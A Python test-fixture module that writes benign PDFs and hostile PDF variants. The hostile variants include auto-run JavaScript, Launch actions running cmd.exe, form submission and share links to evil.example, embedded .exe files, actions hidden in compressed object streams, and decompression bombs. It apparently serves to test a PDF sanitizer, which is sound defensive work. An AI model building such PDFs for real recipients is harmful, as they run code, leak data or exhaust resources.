"""PDF files written sign by sign: honest ones, and each way in which one does something by itself."""

import zlib
from collections.abc import Iterator

PAGE, PAGES, CATALOGUE = 3, 2, 1
FREE = 5  # the number of the first object that a test adds


def pdf(*more: bytes, root: bytes = b"", page: bytes = b"", trailer: bytes = b"", pages: bytes = b"") -> bytes:
    """A PDF of one page with a correct list of its objects; `more` are objects from number FREE on."""
    drawn = b"BT /F1 12 Tf 72 720 Td (Our plan) Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
        pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>%s>>" % page,
        stream(drawn),
        *more,
    ]
    return written(objects, trailer=trailer)


def stream(content: bytes, known: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), known, content)


def written(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    rows, places, length = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"], [], 15
    for number, each in enumerate(objects, start=1):
        places.append(length)
        rows.append(b"%d 0 obj\n%s\nendobj\n" % (number, each))
        length += len(rows[-1])
    out = b"".join(rows)
    listed = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%s%s" % (size, listed, end)


def honest_pdfs() -> Iterator[tuple[str, bytes]]:
    """What Word, LibreOffice, LaTeX, a scanner and a form without scripts write."""
    yield "plain", pdf()
    yield "opens at a page", pdf(root=b"/OpenAction[3 0 R/Fit]")
    yield "opens by going to a page", pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", root=b"/OpenAction 5 0 R")
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/a)>>>>"
    yield "a link", pdf(link, page=b"/Annots[5 0 R]")
    yield "a mail link", pdf(link.replace(b"https://example.org/a", b"mailto:a@b.uk"), page=b"/Annots[5 0 R]")
    yield "outlines", pdf(b"<</Title(A)/Dest[3 0 R/Fit]/Parent 6 0 R>>", b"<</First 5 0 R/Last 5 0 R/Count 1>>",
                          root=b"/Outlines 6 0 R")  # fmt: skip
    yield "tagged", pdf(b"<</Type/StructTreeRoot/K 6 0 R>>", b"<</Type/StructElem/S/P/P 5 0 R>>",
                        root=b"/StructTreeRoot 5 0 R/MarkInfo<</Marked true>>")  # fmt: skip
    yield "a form to print", pdf(b"<</FT/Tx/T(name)/Subtype/Widget/Type/Annot/Rect[0 0 9 9]>>",
                                 root=b"/AcroForm<</Fields[5 0 R]>>", page=b"/Annots[5 0 R]")  # fmt: skip
    yield "a font called AA", pdf(b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>",
                                  page=b"/Resources<</Font<</AA 5 0 R/JS 5 0 R>>>>")  # fmt: skip
    yield "words about JavaScript", pdf(b"<</Title(/JavaScript /JS \\(x\\) /Launch)>>", trailer=b"/Info 5 0 R")
    yield "packed streams", pdf(stream(zlib.compress(b"q Q " * 9000), b"/Filter/FlateDecode"))
    yield "a turn of the page", pdf(page=b"/Trans<</S/R>>/Group<</S/Transparency>>")
    yield "a blank line first", b"\r\n" + pdf()


# Each action that is not taken, as an object.
ACTIONS = {
    "script": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "script without its kind": b"<</JS(app.alert\\(1\\))>>",
    "script in other signs": b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>",
    "launch": b"<</S/Launch/F(cmd.exe)>>",
    "launch on Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "send a form": b"<</S/SubmitForm/F(https://evil.example/)>>",
    "import": b"<</S/ImportData/F(a.fdf)>>",
    "another file": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>",
    "a file within": b"<</S/GoToE/T<</R/C/N(a)>>>>",
    "a sound": b"<</S/Sound>>",
    "a film": b"<</S/Movie>>",
    "a rendition": b"<</S/Rendition/OP 0>>",
    "rich media": b"<</S/RichMediaExecute>>",
    "three dimensions": b"<</S/GoTo3DView>>",
    "hide": b"<</S/Hide/T(a)>>",
    "a share": b"<</S/URI/URI(file://evil.example/share/a)>>",
    "a script as a link": b"<</S/URI/URI(java\tscript:alert\\(1\\))>>",
    "after an honest one": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>>>",
}


def in_each_place(action: bytes) -> Iterator[tuple[str, bytes]]:
    """The same action wherever a PDF may have one."""
    yield "at opening", pdf(action, root=b"/OpenAction 5 0 R")
    yield "at opening, written there", pdf(root=b"/OpenAction " + action)
    yield "in a link", pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>" % action, page=b"/Annots[5 0 R]")
    yield "in an outline", pdf(b"<</Title(A)/A 6 0 R>>", action, root=b"/Outlines<</First 5 0 R/Last 5 0 R>>")
    yield "in a field", pdf(b"<</FT/Btn/T(a)/A %s>>" % action, root=b"/AcroForm<</Fields[5 0 R]>>")
    yield "among names", pdf(action, root=b"/Names<</Dests<</Names[(a) 5 0 R]>>>>")
    yield "where nothing leads", pdf(action)
    yield "in a packed list", packed(action)


def packed(action: bytes) -> bytes:
    """The action in a stream of objects, where no reader of the plain bytes finds it."""
    body = b"6 0 " + action
    held = zlib.compress(body)
    listed = stream(held, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", stream(b"q Q"), listed]  # fmt: skip
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    rows = b"\0\0\0\0\0\0"
    rows += b"".join(b"\1" + place.to_bytes(4, "big") + b"\0" for place in places)
    rows += b"\2" + (5).to_bytes(4, "big") + b"\0" + b"\1" + len(out).to_bytes(4, "big") + b"\0"
    head = b"/Type/XRef/Size 8/W[1 4 1]/Root 1 0 R"
    return out + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(rows, head), len(out))


def other_hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    """What holds something, locks something or is no document."""
    file = b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>"
    held = stream(b"MZ", b"/Type/EmbeddedFile")
    yield "a file among names", pdf(file, held, root=b"/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>")
    yield "a file beside a page", pdf(file, held, page=b"/AF[5 0 R]")
    yield "a file in a note", pdf(b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>", page=b"/Annots[5 0 R]")
    yield "a collection", pdf(root=b"/Collection<</View/D>>")
    yield "names of scripts", pdf(root=b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>")
    yield "a form of Acrobat's own", pdf(stream(b"<xdp/>"), root=b"/AcroForm<</XFA 5 0 R/Fields[]>>")
    for place in (b"/O", b"/C", b"/WC", b"/WS"):
        yield f"more actions {place.decode()}", pdf(root=b"/AA<<%s<</S/GoTo/D[3 0 R/Fit]>>>>" % place)
        yield f"more actions of a page {place.decode()}", pdf(page=b"/AA<<%s<</S/GoTo/D[3 0 R/Fit]>>>>" % place)
    for kind in (b"RichMedia", b"Screen", b"Movie", b"Sound", b"3D"):
        yield f"shows {kind.decode()}", pdf(b"<</Type/Annot/Subtype/%s/Rect[0 0 9 9]>>" % kind, page=b"/Annots[5 0 R]")
    yield "a stream from elsewhere", pdf(b"<</Length 0/F(http://evil.example/)>>\nstream\n\nendstream")
    yield "no pages", pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>")
    yield "pages in a ring", pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "locked", pdf(b"<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>" % (b"o" * 32, b"u" * 32),
                        trailer=b"/Encrypt 5 0 R/ID[(a)(a)]")  # fmt: skip
    yield "fifteen bytes", b"%PDF-1.4\n%%EOF\n"
    yield "no list of objects", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    yield "a list that leads astray", pdf().replace(b"0000000015", b"0000000099")
    yield "deeper than any", pdf(b"[" * 600 + b"]" * 600)
    yield (
        "packed twice",
        pdf(stream(zlib.compress(zlib.compress(bytes(9_000_000))), b"/Filter[/FlateDecode/FlateDecode]")),
    )
    yield "something behind its end", pdf() + b"<script>alert(1)</script>"
    yield "a page of a browser in front", b"<html>" + pdf()
    yield "a program in front", b"MZ\x90\0" + pdf()


def heavy_pdfs() -> Iterator[tuple[str, bytes]]:
    """What asks for more than a document may."""
    bomb = zlib.compress(bytes(300_000_000), 9)
    yield "300 MB in one stream", pdf(stream(bomb, b"/Filter/FlateDecode"))
    yield "300 MB in a list of objects", pdf(stream(bomb, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"))
    small = zlib.compress(bytes(60_000_000), 9)
    yield "many streams", pdf(*[stream(small, b"/Filter/FlateDecode")] * 8)
    yield "200,000 objects", written([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                                      b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *[b"1"] * 200_000])  # fmt: skip
    kids = b" ".join(b"%d 0 R" % number for number in range(FREE, FREE + 2_500))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    yield "2,500 pages", pdf(*[page] * 2_500, pages=b"<</Type/Pages/Count 2500/Kids[%s]>>" % kids)
    lzw = b"\x80" + b"\x0b\x60\x50" * 500_000 + b"\x80"
    yield "packed otherwise", pdf(stream(b"\x81\0" * 4_000_000, b"/Filter/RunLengthDecode"))
    yield "packed in the old way", pdf(stream(lzw, b"/Filter/LZWDecode"))
